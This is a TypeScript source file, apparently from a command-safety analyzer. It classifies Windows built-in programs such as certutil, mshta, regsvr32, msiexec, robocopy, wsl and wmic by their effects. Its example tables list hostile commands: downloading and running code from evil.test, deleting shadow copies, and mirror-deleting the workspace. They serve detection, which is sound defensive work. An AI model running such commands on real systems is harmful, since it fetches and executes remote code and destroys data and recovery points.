/** Programs that come with Windows and fetch, run or copy what they are given. */
import type { EffectDraft } from '../../../effects/effect';
import { type Call, opaque, type ProgramSpec } from '../program';
import type { Run, Word } from '../spec';
import { deletes, reads, when, writes } from '../stating';
import { hostOf } from '../urls';

const words = (call: Call): readonly Word[] => call.invocation.args;
const hasUnknown = (call: Call): boolean => words(call).some((word) => typeof word.value !== 'string');

const isUrl = (word: Word): boolean => /^(https?|ftp|script:https?):/i.test(String(word.value));
const switches = (call: Call): string =>
  words(call)
    .map((word) => String(word.value))
    .join(' ');

const foreignCode = (word: Word | undefined): EffectDraft => {
  const network = word !== undefined && isUrl(word);
  return {
    kind: 'code.exec',
    origin: network ? 'network' : 'foreign-file',
    path: word?.value ?? null,
    resolved: false,
  };
};

/** `certutil -urlcache -f URL FILE`, `bitsadmin /transfer job URL FILE`. */
const fetchers: ProgramSpec = {
  names: 'certutil bitsadmin',
  does(call) {
    const url = words(call).find(isUrl);
    const target = url && words(call).at(-1);
    const decodes = /[-/](decode|decodehex)\b/i.test(switches(call));
    const trusts = /[-/](addstore|importpfx|delstore)\b/i.test(switches(call));
    return [
      ...(url ? [{ kind: 'net.fetch', host: hostOf(url.value) ?? null } satisfies EffectDraft] : []),
      ...(target && target !== url ? writes(call, [target], 'overwrite') : []),
      ...(decodes ? writes(call, words(call).slice(-1), 'overwrite') : []),
      ...when(trusts, { kind: 'system.configure', area: 'security-tool' }),
    ];
  },
  examples: {
    yields: {
      'certutil -urlcache -f https://evil.test/a.exe a.exe': 'net.fetch{host=evil.test} + fs.write{path=/repo/a.exe}',
      'certutil -decode a.b64 a.exe': 'fs.write{path=/repo/a.exe}',
      'certutil -addstore root ca.crt': 'system.configure{area=security-tool}',
    },
    inert: ['certutil -hashfile a.exe SHA256'],
  },
};

/** They run scripts and libraries, also straight from an address. */
const hosts: ProgramSpec = {
  names: 'mshta rundll32 regsvr32 cscript wscript msiexec installutil',
  does(call) {
    if (hasUnknown(call)) return [opaque(call.invocation)];
    const file = words(call).find(
      (word) => !/^[-/][A-Za-z]/.test(String(word.value)) || /^\/i:http/i.test(String(word.value)),
    );
    const remote = words(call).find((word) => /https?:/i.test(String(word.value)));
    if (call.name === 'msiexec')
      return [
        /[-/]x\b/i.test(switches(call))
          ? { kind: 'package.remove', manager: 'msi', name: file?.value ?? null, global: true }
          : {
              kind: 'package.install',
              manager: 'msi',
              name: file?.value ?? null,
              source: remote ? 'url' : 'file',
              scripts: true,
              global: true,
            },
      ];
    if (remote) return [{ kind: 'code.exec', origin: 'network', path: remote.value, resolved: false }];
    return file ? [foreignCode(file)] : [];
  },
  examples: {
    yields: {
      'mshta https://evil.test/a.hta': 'code.exec{origin=network,resolved=false}',
      'regsvr32 /s /i:https://evil.test/a.sct scrobj.dll': 'code.exec{origin=network}',
      'cscript setup.vbs': 'code.exec{origin=foreign-file,path=setup.vbs}',
      'msiexec /i app.msi /qn': 'package.install{manager=msi,global=true}',
    },
    inert: ['cscript'],
  },
};

/** `robocopy FROM TO /MIR` deletes at the target what is not at the source. */
const copiers: ProgramSpec = {
  names: 'robocopy xcopy',
  does(call) {
    if (hasUnknown(call)) return [opaque(call.invocation)];
    const [from, to] = words(call).filter((word) => !/^\/[A-Za-z]/.test(String(word.value)));
    if (!from || !to || /\/L(\s|$)/i.test(switches(call))) return [];
    return [
      ...reads(call, [from], { shown: false }),
      ...writes(call, [to], 'overwrite'),
      ...when(/\/(MIR|PURGE)\b/i.test(switches(call)), ...deletes(call, [to], { recursive: true })),
      ...when(/\/(MOVE|MOV)\b/i.test(switches(call)), ...deletes(call, [from], { recursive: true })),
    ];
  },
  examples: {
    yields: {
      'robocopy src build /E': 'fs.read + fs.write{path=/repo/build}',
      'robocopy empty . /MIR': 'fs.read + fs.write + fs.delete{recursive=true,root=workspace}',
    },
    inert: ['robocopy src build /MIR /L'],
  },
};

/** `wsl -e CMD`, `wsl -- CMD`, `wsl --unregister Ubuntu`. */
const wsl: ProgramSpec = {
  names: 'wsl',
  options:
    '-e,--exec -d,--distribution=D -u,--user=U --cd=D -l,--list -v,--verbose --status --version --unregister=D --shutdown --terminate,-t=D --install --update --export=A=B --import=A=B=C --set-default=D',
  stopAtOperand: true,
  inertWith: ['-l', '--status', '--version'],
  does(call) {
    const runs: Run[] =
      call.operands.length > 0 ? [{ type: 'argv', words: call.operands, label: 'wsl', via: 'container' }] : [];
    return {
      effects: [
        ...call.words('--unregister').map(
          (word): EffectDraft => ({
            kind: 'container.destroy',
            object: 'system',
            name: word.value,
            all: false,
            force: true,
          }),
        ),
        ...when(call.has('--shutdown', '--terminate'), { kind: 'service.control', unit: 'wsl', op: 'stop' }),
        ...when(call.has('--install', '--update', '--import'), {
          kind: 'package.install',
          manager: 'wsl',
          global: true,
          scripts: true,
        }),
      ],
      runs,
    };
  },
  examples: {
    yields: {
      'wsl -e rm -rf build': 'fs.delete{recursive=true}',
      'wsl --unregister Ubuntu': 'container.destroy{object=system,name=Ubuntu}',
    },
    inert: ['wsl -l -v', 'wsl ls'],
  },
};

/** `wmic process call create CMD`, `wmic shadowcopy delete`. */
const wmic: ProgramSpec = {
  names: 'wmic',
  does(call) {
    if (hasUnknown(call)) return [opaque(call.invocation)];
    const text = switches(call).toLowerCase();
    if (/shadowcopy\s+delete/.test(text)) return [{ kind: 'recovery.destroy', what: 'snapshot' }];
    const created = /process\s+call\s+create\s+/.exec(text);
    if (created) {
      const command = words(call).at(-1);
      return command
        ? { runs: [{ type: 'shell', text: command.value, span: command.span, label: 'wmic', shell: 'cmd' }] }
        : [];
    }
    if (/\bprocess\b.*\b(terminate|delete)\b/.test(text))
      return [{ kind: 'process.signal', target: null, scope: 'other', force: true }];
    return when(/\b(call|delete|create|set)\b/.test(text), {
      kind: 'code.opaque',
      reason: 'unresolved-command',
      program: 'wmic',
    });
  },
  examples: {
    yields: {
      'wmic shadowcopy delete': 'recovery.destroy{what=snapshot}',
      'wmic process where name="x.exe" delete': 'process.signal{force=true}',
    },
    inert: ['wmic process list brief', 'wmic os get caption'],
  },
};

export const windowsLoaders: readonly ProgramSpec[] = [fetchers, hosts, copiers, wsl, wmic];
